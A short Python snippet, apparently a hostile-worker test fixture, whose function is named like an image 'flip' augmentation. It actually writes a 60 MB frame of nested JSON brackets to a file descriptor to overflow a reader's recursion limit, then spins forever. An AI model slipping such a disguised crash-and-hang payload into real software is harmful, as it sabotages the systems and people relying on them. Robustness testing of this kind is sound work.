# Sends a frame whose header is 60 MB of nested JSON lists, to blow the recursion limit of the reader.
import os
def flip(images, indices, epoch):
    b = b"[" * 60000000
    b = b"atf1" + len(b).to_bytes(4, "big") + b
    while b: b = b[os.write(4, b[:1 << 20]):]
    while True: pass
